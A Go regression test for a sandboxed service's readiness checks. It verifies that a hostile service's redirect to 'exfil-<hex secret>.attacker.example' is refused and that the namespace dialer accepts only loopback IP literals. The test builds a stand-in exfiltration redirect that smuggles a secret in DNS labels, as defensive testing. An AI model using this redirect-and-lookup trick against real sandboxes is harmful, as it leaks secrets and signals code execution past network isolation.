package service

import (
	"context"
	"encoding/hex"
	"errors"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"
)

// A service (or a dependency) in a network namespace of its own answers
// memgate's readiness GET with a redirect to a host name. memgate's
// clients used to follow it, and the namespace's dialer resolved the name
// with a lookup that ran on another thread, in memgate's own network
// namespace: the sandbox, which has no network, got a DNS query of its
// choosing sent from the host (data in the labels: exfiltration, or a
// beacon that its code ran). Found by an attacker's review; now the
// redirect is not followed off the host asked, and the dialer takes only
// loopback IP literals. Root only (setns, unshare -n).
func TestRedirectCannotMakeMemgateResolveNames(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root for a network namespace")
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("no unshare")
	}
	// A network namespace with only loopback, as the service's sandbox has.
	holder := exec.Command("unshare", "-n", "sh", "-c", "ip link set lo up 2>/dev/null || /usr/sbin/ip link set lo up; exec sleep 60")
	if err := holder.Start(); err != nil {
		t.Skip(err)
	}
	t.Cleanup(func() { holder.Process.Kill(); holder.Wait() })
	ns := "/proc/" + strconv.Itoa(holder.Process.Pid) + "/ns/net"
	time.Sleep(300 * time.Millisecond)

	// The hostile service's port, inside that namespace: it sends every
	// request away, except /moved, which it sends to its own /here.
	ln := listenIn(t, ns)
	secret := hex.EncodeToString([]byte("repo-secret"))
	host := "exfil-" + secret + ".attacker.example"
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/moved":
			http.Redirect(w, r, "/here", http.StatusFound)
		case "/here":
			w.Write([]byte("ok"))
		default:
			http.Redirect(w, r, "http://"+host+"/", http.StatusFound)
		}
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	port := ln.Addr().(*net.TCPAddr).Port

	p := &Process{dial: netnsDialer(ns)}

	// The dependency's readiness (dependencies.go checkDependency, http).
	d := &DependencyProcess{Dependency: Dependency{Name: "stub", Port: port, Ready: DependencyReadiness{HTTPPath: "/ready"}}}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	ok, why := p.checkDependency(ctx, 0, d)

	// The service's own readiness (process.go WaitReady's client), which
	// needs no config at all: any pull request's code can answer so.
	_, err := p.HTTPClient(5 * time.Second).Get("http://127.0.0.1:" + strconv.Itoa(port) + "/healthz")

	for _, got := range []string{why, errString(err)} {
		if strings.Contains(got, "lookup") || !strings.Contains(got, "redirected away to http://"+host+"/") {
			t.Errorf("a redirect off the host: %q; want it refused, nothing looked up", got)
		}
	}
	if ok {
		t.Error("a dependency that redirects away was taken as ready")
	}
	// On the same host and port a redirect is still followed.
	resp, err := p.HTTPClient(5 * time.Second).Get("http://127.0.0.1:" + strconv.Itoa(port) + "/moved")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("a redirect on the service's own host: %v %v", resp, err)
	}
	// And the dialer itself takes no name.
	if _, err := netnsDialer(ns)(ctx, "tcp", host+":80"); !errors.Is(err, ErrNotLoopback) {
		t.Errorf("dialing a name inside the namespace: %v", err)
	}
	if _, err := netnsDialer(ns)(ctx, "tcp", "10.0.0.1:80"); !errors.Is(err, ErrNotLoopback) {
		t.Errorf("dialing another address inside the namespace: %v", err)
	}
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// listenIn opens a loopback listener inside the network namespace at ns.
func listenIn(t *testing.T, ns string) net.Listener {
	t.Helper()
	var ln net.Listener
	done := make(chan error, 1)
	go func() {
		done <- inNetns(ns, func() (err error) {
			ln, err = net.Listen("tcp", "127.0.0.1:0")
			return err
		})
	}()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	return ln
}
